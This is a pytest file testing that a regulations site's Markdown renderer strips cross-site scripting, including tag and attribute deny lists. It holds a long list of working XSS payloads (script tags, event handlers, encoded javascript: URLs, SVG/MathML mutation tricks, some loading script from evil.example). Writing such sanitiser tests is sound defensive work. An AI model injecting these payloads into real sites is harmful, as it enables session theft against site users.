"""XSS payloads through `render_markdown`, checked on the HTML a browser would parse.

Annotation bodies are written in Markdown by consultants and reach the pages, the admin preview,
the Atom feed and the API's HTML field through `render_markdown` alone, so every payload here is
parsed back with `html.parser.HTMLParser` and held to the allow-list in `regulations.rendering`.
No database is needed.
"""

import re
from html.parser import HTMLParser

import pytest

from regulations.text import rendering
from regulations.text.rendering import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, EXTERNAL_REL, URL_SCHEMES, render_markdown

P = pytest.param

# Elements that must never reach a page, whatever ALLOWED_TAGS says in future.
DANGEROUS_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "style", "link", "meta", "base",
    "form", "input", "button", "textarea", "select", "option", "isindex", "svg", "math", "template",
    "noscript", "xmp", "plaintext", "noembed", "noframes", "video", "audio", "source", "track", "marquee",
    "details", "dialog", "portal", "img", "image", "animate", "set", "use", "foreignobject",
}  # fmt: skip
FORBIDDEN_ATTRIBUTES = {"style", "srcdoc", "formaction", "xlink:href", "action", "background", "dynsrc", "lowsrc"}
# Attributes a browser reads as URLs; every one present must carry a safe scheme.
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "poster", "background", "cite", "xlink:href",
    "srcset", "codebase", "longdesc", "manifest", "ping", "dynsrc", "lowsrc",
}  # fmt: skip

_TABLE = "| a | b |\n|---|---|\n"

XSS_PAYLOADS = [
    # <script> in many spellings; with raw HTML off, all of them must come out as text.
    P("<script>alert(1)</script>", id="script-plain"),
    P("<SCRIPT>alert(1)</SCRIPT>", id="script-upper"),
    P("<ScRiPt>alert(1)</sCrIpT>", id="script-mixed-case"),
    P('<script src="https://evil.example/x.js"></script>', id="script-src"),
    P("<script/xss src=//evil.example/x.js></script>", id="script-slash-attr"),
    P('<script type="text/javascript">alert(1)</script>', id="script-type-attr"),
    P("<script\n>alert(1)</script\n>", id="script-split-lines"),
    P("Intro\n\n<script>\nalert(1)\n</script>\n\nOutro", id="script-block"),
    P("<scr<script>ipt>alert(1)</scr</script>ipt>", id="script-nested"),
    P("<<script>script>alert(1)<</script>/script>", id="script-double-open"),
    P("<script>alert(1)", id="script-unclosed"),
    P("<script>alert(1)</script", id="script-unclosed-end"),
    P("**<script>alert(1)</script>**", id="script-in-strong"),
    P("> <script>alert(1)</script>", id="script-in-blockquote"),
    P("# <script>alert(1)</script>", id="script-in-heading"),
    # Event handlers.
    P("<img src=x onerror=alert(1)>", id="img-onerror"),
    P('<IMG SRC="x" OnErRoR="alert(1)">', id="img-onerror-mixed-case"),
    P("<img/src=x/onerror=alert(1)>", id="img-slashes"),
    P("<body onload=alert(1)>", id="body-onload"),
    P("<svg onload=alert(1)>", id="svg-onload"),
    P("<svg/onload=alert(1)>", id="svg-slash-onload"),
    P('<div onmouseover="alert(1)">hover</div>', id="div-onmouseover"),
    P("<p onclick=alert(1)>allowed tag, bad attribute</p>", id="p-onclick"),
    P('<a href="#" onclick="alert(1)">x</a>', id="a-onclick"),
    P("<input autofocus onfocus=alert(1)>", id="input-autofocus-onfocus"),
    P("<select autofocus onfocus=alert(1)></select>", id="select-autofocus-onfocus"),
    P("<textarea autofocus onfocus=alert(1)></textarea>", id="textarea-autofocus-onfocus"),
    P("<details open ontoggle=alert(1)>", id="details-ontoggle"),
    P("<video><source onerror=alert(1)></video>", id="video-source-onerror"),
    P("<video src=x onerror=alert(1)></video>", id="video-onerror"),
    P("<audio src=x onerror=alert(1)></audio>", id="audio-onerror"),
    P("<marquee onstart=alert(1)>x</marquee>", id="marquee-onstart"),
    # javascript: through Markdown links, images, references and autolinks.
    P("[x](javascript:alert(1))", id="md-link-javascript"),
    P('[x](javascript:alert(1) "title")', id="md-link-javascript-title"),
    P("[x](<javascript:alert(1)>)", id="md-link-javascript-angle"),
    P("[x](javascript://%0Aalert(1))", id="md-link-javascript-comment-newline"),
    P("![x](javascript:alert(1))", id="md-image-javascript"),
    P("[x][r]\n\n[r]: javascript:alert(1)", id="md-reference-javascript"),
    P("[r]\n\n[r]: <javascript:alert(1)>", id="md-shortcut-reference-javascript"),
    P("![x][r]\n\n[r]: javascript:alert(1)", id="md-image-reference-javascript"),
    P("<javascript:alert(1)>", id="md-autolink-javascript"),
    P("<JAVASCRIPT:alert(1)>", id="md-autolink-javascript-upper"),
    P(_TABLE + "| [x](javascript:alert(1)) | ok |", id="md-link-javascript-in-table"),
    # Encoded and obfuscated schemes.
    P("[x](JaVaScRiPt:alert(1))", id="scheme-mixed-case"),
    P("[x](jav&#x61;script:alert(1))", id="scheme-hex-entity"),
    P("[x](&#106;avascript:alert(1))", id="scheme-decimal-entity"),
    P("[x](&#0000106&#0000097vascript:alert(1))", id="scheme-padded-entities-no-semicolon"),
    P("[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))", id="scheme-all-hex-entities"),
    P("[x](javascript&colon;alert(1))", id="scheme-named-colon"),
    P("[x](java\tscript:alert(1))", id="scheme-tab"),
    P("[x](java&#9;script:alert(1))", id="scheme-tab-entity"),
    P("[x](java&#x0A;script:alert(1))", id="scheme-newline-entity"),
    P("[x](java&NewLine;script:alert(1))", id="scheme-newline-named-entity"),
    P("[x](java\nscript:alert(1))", id="scheme-newline"),
    P("[x](%6A%61vascript:alert(1))", id="scheme-percent-encoded"),
    P("[x](&#32;&#32;javascript:alert(1))", id="scheme-entity-leading-spaces"),
    P("[x](&#x20;&#x09;&#x0A;javascript:alert(1))", id="scheme-entity-leading-whitespace"),
    P("[x](&#14;javascript:alert(1))", id="scheme-entity-leading-control"),
    P("[x](\x01javascript:alert(1))", id="scheme-leading-control"),
    P("[x](\x00javascript:alert(1))", id="scheme-leading-nul"),
    P("[x](  javascript:alert(1))", id="scheme-leading-spaces"),
    # data: and vbscript:
    P("[x](data:text/html,<script>alert(1)</script>)", id="data-html"),
    P("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", id="data-html-base64"),
    P("[x](DATA:text/html,alert(1))", id="data-upper"),
    P("![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", id="data-svg-image"),
    P("![x](data:image/svg+xml,<svg onload=alert(1)>)", id="data-svg-image-inline"),
    P("<data:text/html,<script>alert(1)</script>>", id="data-autolink"),
    P("[x](vbscript:msgbox(1))", id="vbscript"),
    P("[x](VBScript:msgbox(1))", id="vbscript-mixed-case"),
    P("[x](livescript:alert(1))", id="livescript"),
    # SVG and MathML.
    P("<svg><script>alert(1)</script></svg>", id="svg-script"),
    P('<svg><a xlink:href="javascript:alert(1)"><text x="9" y="9">x</text></a></svg>', id="svg-xlink-href"),
    P("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", id="svg-animate-onbegin"),
    P('<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"></use></svg>', id="svg-use-data"),
    P("<svg><p><style><img src=x onerror=alert(1)></style></p></svg>", id="svg-style-mxss"),
    P("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", id="math-mglyph-mxss"),
    P('<math href="javascript:alert(1)">x</math>', id="math-href"),
    P('<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>', id="math-maction"),
    # Frames, objects, embeds.
    P('<iframe src="javascript:alert(1)"></iframe>', id="iframe-javascript"),
    P('<iframe srcdoc="<script>alert(1)</script>"></iframe>', id="iframe-srcdoc"),
    P('<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>', id="iframe-srcdoc-entities"),
    P('<frameset><frame src="javascript:alert(1)"></frameset>', id="frameset"),
    P('<object data="javascript:alert(1)"></object>', id="object-javascript"),
    P('<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>', id="object-data"),
    P('<embed src="javascript:alert(1)">', id="embed-javascript"),
    P('<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', id="embed-data-svg"),
    # Styles, links, meta, base, forms.
    P('<style>body{background:url("javascript:alert(1)")}</style>', id="style-url-javascript"),
    P("<style>@import 'https://evil.example/x.css';</style>", id="style-import"),
    P('<div style="width: expression(alert(1))">x</div>', id="style-attr-expression"),
    P('<p style="background:url(javascript:alert(1))">x</p>', id="style-attr-url-javascript"),
    P('<link rel="stylesheet" href="javascript:alert(1)">', id="link-stylesheet"),
    P('<link rel="import" href="https://evil.example/x.html">', id="link-import"),
    P('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', id="meta-refresh-javascript"),
    P('<meta http-equiv="refresh" content="0;url=data:text/html,alert(1)">', id="meta-refresh-data"),
    P('<base href="javascript:alert(1)//">', id="base-javascript"),
    P('<base href="https://evil.example/">', id="base-external"),
    P('<form action="javascript:alert(1)"><input type="submit"></form>', id="form-action"),
    P('<form><button formaction="javascript:alert(1)">x</button></form>', id="button-formaction"),
    P("<isindex action=javascript:alert(1) type=image>", id="isindex"),
    P('<input type="image" src="x" onerror="alert(1)">', id="input-image-onerror"),
    # Malformed markup.
    P("<img src=x onerror=alert(1)//", id="malformed-img-unclosed"),
    P("<<img src=x onerror=alert(1)>", id="malformed-double-lt"),
    P('<img """><script>alert(1)</script>">', id="malformed-img-quotes"),
    P("<img src=`x`onerror=alert(1)>", id="malformed-img-backticks"),
    P('<a href="x"<script>alert(1)</script>', id="malformed-a-unclosed"),
    P("<</p>iframe src=javascript:alert(1)//", id="malformed-split-iframe"),
    # Comments, CDATA, declarations.
    P("<!--<script>alert(1)</script>-->", id="comment-script"),
    P("<!--><script>alert(1)</script>-->", id="comment-abrupt-close"),
    P("<!-- --!><script>alert(1)</script> -->", id="comment-bang-close"),
    P("<![CDATA[<script>alert(1)</script>]]>", id="cdata-script"),
    P('<?xml-stylesheet href="javascript:alert(1)"?>', id="processing-instruction"),
    P("<!DOCTYPE html><script>alert(1)</script>", id="doctype-script"),
    # Markdown titles and URLs trying to break out of their attribute.
    P('[a](http://x "\\" onmouseover=alert(1))', id="title-escaped-quote"),
    P('[a](http://x "a\\" onmouseover=alert(1) x=\\"")', id="title-escaped-quotes-both"),
    P("[a](http://x 'a' onmouseover='alert(1)')", id="title-single-quotes"),
    P('[a](http://x "a&quot; onmouseover=alert(1) x=&quot;")', id="title-quot-entities"),
    P('[a][r]\n\n[r]: http://x "\\" onmouseover=alert(1) x=\\""', id="title-reference"),
    P('![a](http://x/x.png "\\" onerror=alert(1) x=\\"")', id="title-image"),
    P('[a](http://x"onmouseover="alert(1))', id="href-quote-breakout"),
    P('[a](http://x/"><script>alert(1)</script>)', id="href-tag-breakout"),
    P('<https://evil.example/" onclick="alert(1)>', id="autolink-quote-breakout"),
    # HTML in tables and code (code is shown, never run).
    P(_TABLE + "| <script>alert(1)</script> | x |", id="table-script"),
    P(_TABLE + "| <img src=x onerror=alert(1)> | x |", id="table-img-onerror"),
    P(_TABLE + "| `<script>alert(1)</script>` | x |", id="table-code-script"),
    P("`<script>alert(1)</script>`", id="code-span-script"),
    P("`<img src=x onerror=alert(1)>`", id="code-span-img"),
    P("    <script>alert(1)</script>", id="code-block-script"),
    P("```\n<script>alert(1)</script>\n```", id="fence-script"),
    # Raw anchors with padded or entity-encoded javascript: hrefs.
    P('<a href="  javascript:alert(1)">x</a>', id="raw-a-padded-javascript"),
    P('<a href=" &#14;  javascript:alert(1)">x</a>', id="raw-a-control-javascript"),
    P('<a href="&#106;avascript:alert(1)">x</a>', id="raw-a-entity-javascript"),
    # Templates, noscript, unicode.
    P("<template><script>alert(1)</script></template>", id="template-script"),
    P('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', id="noscript-title-breakout"),
    P("[x](\\u006Aavascript:alert(1))", id="unicode-escape-in-url"),
    P("<\\u0073cript>alert(1)</script>", id="unicode-escape-in-tag"),
    P("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", id="unicode-fullwidth-brackets"),
    P("[x](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1))", id="unicode-fullwidth-scheme"),
    P("[x](\u200bjavascript:alert(1))", id="unicode-zero-width-space"),
    P("[x](\u202ejavascript:alert(1))", id="unicode-rtl-override"),
    P("<scr\x00ipt>alert(1)</scr\x00ipt>", id="unicode-nul-in-tag"),
    # External links that must still get rel, in disguise.
    P("[x](HTTPS://evil.example)", id="external-upper-scheme"),
    P("[x](//evil.example)", id="external-protocol-relative"),
    P("[m](mailto:a@example.com)", id="external-mailto"),
    P("<https://evil.example/>", id="external-autolink"),
]


class _Collector(HTMLParser):
    """What a browser builds from the HTML: start tags with attributes, text, comments, declarations.

    HTMLParser lowercases tag and attribute names and applies html.unescape to attribute values,
    as a browser does, so the values collected here are the ones a browser would act on.
    """

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.start_tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self.comments: list[str] = []
        self.declarations: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.start_tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_decl(self, decl):
        self.declarations.append(decl)

    def unknown_decl(self, data):
        self.declarations.append(data)

    def handle_pi(self, data):
        self.declarations.append(data)


def parse(html_text: str) -> _Collector:
    collector = _Collector()
    collector.feed(html_text)
    collector.close()
    return collector


# The WHATWG URL parser strips leading and trailing C0 controls and spaces and drops every tab
# and newline (wherever they are) before it reads the scheme; scheme names are case-insensitive.
_C0_AND_SPACE = "".join(chr(c) for c in range(0x21))
_TAB_OR_NEWLINE_RE = re.compile(r"[\t\n\r]")
_SCHEME_RE = re.compile(r"([a-z][a-z0-9+.\-]*):")


def browser_url(value: str) -> str:
    return _TAB_OR_NEWLINE_RE.sub("", value.strip(_C0_AND_SPACE)).lower()


def url_scheme(value: str) -> str | None:
    match = _SCHEME_RE.match(browser_url(value))
    return match.group(1) if match else None


def is_external(value: str) -> bool:
    # Browsers read a backslash as a slash in http(s) URLs, so `\\host` and `/\host` are `//host`.
    url = browser_url(value).replace("\\", "/")
    return url_scheme(value) in URL_SCHEMES or url.startswith("//")


def rendered(payload: str) -> tuple[str, _Collector]:
    output = str(render_markdown(payload))
    return output, parse(output)


def test_allow_list_has_no_dangerous_tags():
    assert not ALLOWED_TAGS & DANGEROUS_TAGS
    assert set(ALLOWED_ATTRIBUTES) <= ALLOWED_TAGS
    assert not {name for names in ALLOWED_ATTRIBUTES.values() for name in names} & FORBIDDEN_ATTRIBUTES
    assert URL_SCHEMES == {"http", "https", "mailto"}


def test_payload_list_is_long_and_ids_are_unique():
    ids = [param.id for param in XSS_PAYLOADS]
    assert len(XSS_PAYLOADS) >= 60
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_only_allowed_elements(payload):
    output, doc = rendered(payload)
    tags = [tag for tag, _ in doc.start_tags]
    assert not set(tags) & DANGEROUS_TAGS, output
    assert set(tags) <= ALLOWED_TAGS, output
    assert not doc.comments, output
    assert not doc.declarations, output


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_markup_outside_the_allow_list_in_raw_output(payload):
    """A second look without HTMLParser: every `<` that a browser would read as markup opens an allowed tag."""
    output = str(render_markdown(payload))
    for match in re.finditer(r"<(/?)([^\s/>]*)", output):
        name = match.group(2).lower()
        assert name in ALLOWED_TAGS, f"{match.group(0)!r} in {output!r}"


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_only_allowed_attributes(payload):
    output, doc = rendered(payload)
    for tag, attrs in doc.start_tags:
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            assert not name.startswith("on"), output
            assert name not in FORBIDDEN_ATTRIBUTES, output
            assert name in allowed, output
            if name == "rel":
                assert value == EXTERNAL_REL, output


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_urls_have_no_dangerous_scheme(payload):
    output, doc = rendered(payload)
    for _tag, attrs in doc.start_tags:
        for name, value in attrs:
            if name in URL_ATTRIBUTES and value is not None:
                scheme = url_scheme(value)
                assert scheme is None or scheme in URL_SCHEMES, f"{name}={value!r} in {output!r}"
                assert not browser_url(value).startswith(("javascript:", "vbscript:", "data:")), output


# Links that a browser reads as external although their href does not look it at first sight.
REL_PAYLOADS = [
    *XSS_PAYLOADS,
    P("<a@example.com>", id="rel-hidden-email-autolink"),
    P("<mailto:a@example.com>", id="rel-hidden-mailto-autolink"),
    P("[x](&#104;ttps://evil.example)", id="rel-hidden-entity-scheme"),
    P("[x](&#32;https://evil.example)", id="rel-hidden-entity-leading-space"),
    P("[x](\\\\\\\\evil.example)", id="rel-hidden-double-backslash"),
    P("[x](/\\\\evil.example)", id="rel-hidden-slash-backslash"),
]


@pytest.mark.parametrize("payload", REL_PAYLOADS)
def test_external_links_carry_rel(payload):
    output, doc = rendered(payload)
    for tag, attrs in doc.start_tags:
        attributes = dict(attrs)
        href = attributes.get("href")
        if tag == "a" and href is not None and is_external(href):
            assert attributes.get("rel") == EXTERNAL_REL, output


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_cleaning_the_output_again_changes_nothing(payload):
    """The serialised output means the same when parsed again (no mutation-XSS round trip)."""
    output = str(render_markdown(payload))
    assert rendering._cleaner.clean(output) == output


# Positive tests: the sanitiser must not be so eager that ordinary Markdown stops working.


def test_emphasis_and_lists():
    text = "*a* **b**\n\n- one\n- two\n\n1. first\n2. second"
    assert render_markdown(text) == (
        "<p><em>a</em> <strong>b</strong></p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"
        "<ol>\n<li>first</li>\n<li>second</li>\n</ol>"
    )


def test_table():
    text = "| Item | Value |\n|---|---|\n| CO2 | *13.5%* |"
    assert render_markdown(text) == (
        "<table>\n<thead>\n<tr>\n<th>Item</th>\n<th>Value</th>\n</tr>\n</thead>\n"
        "<tbody>\n<tr>\n<td>CO2</td>\n<td><em>13.5%</em></td>\n</tr>\n</tbody>\n</table>"
    )


def test_headings_blockquote_and_code_block():
    text = "### Scope\n\n> quoted\n\n    x = 1"
    assert render_markdown(text) == (
        "<h3>Scope</h3>\n<blockquote>\n<p>quoted</p>\n</blockquote>\n<pre><code>x = 1\n</code></pre>"
    )


def test_external_https_link_gets_rel_and_keeps_title():
    assert render_markdown('[MEE](https://www.mee.gov.cn/ "Ministry")') == (
        '<p><a href="https://www.mee.gov.cn/" rel="noopener noreferrer nofollow" title="Ministry">MEE</a></p>'
    )


def test_relative_link_is_kept_without_rel():
    assert render_markdown("[plan](/documents/x/)") == '<p><a href="/documents/x/">plan</a></p>'


def test_fragment_link_is_kept():
    assert render_markdown("[below](#targets)") == '<p><a href="#targets">below</a></p>'


def test_mailto_link_gets_rel():
    assert render_markdown("[write](mailto:a@example.com)") == (
        '<p><a href="mailto:a@example.com" rel="noopener noreferrer nofollow">write</a></p>'
    )


def test_empty_input():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""


def test_code_span_shows_script_escaped():
    output = str(render_markdown("Use `<script>alert(1)</script>` as an example."))
    assert "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>" in output
    doc = parse(output)
    assert [tag for tag, _ in doc.start_tags] == ["p", "code"]
    assert "".join(doc.text) == "Use <script>alert(1)</script> as an example."


@pytest.mark.parametrize(
    "snippet",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<a href="javascript:alert(1)">x</a>',
    ],
)
def test_raw_html_is_shown_as_text_not_run(snippet):
    """Raw HTML is off: the consultant's text is kept, visibly, and it is only text."""
    doc = parse(str(render_markdown(f"Before {snippet} after")))
    assert [tag for tag, _ in doc.start_tags] == ["p"]
    assert "".join(doc.text) == f"Before {snippet} after"


def test_javascript_link_keeps_its_text():
    """The dangerous href goes; the link text stays readable."""
    output = str(render_markdown("See [the annex](javascript:alert(1))."))
    assert output == "<p>See <a>the annex</a>.</p>"
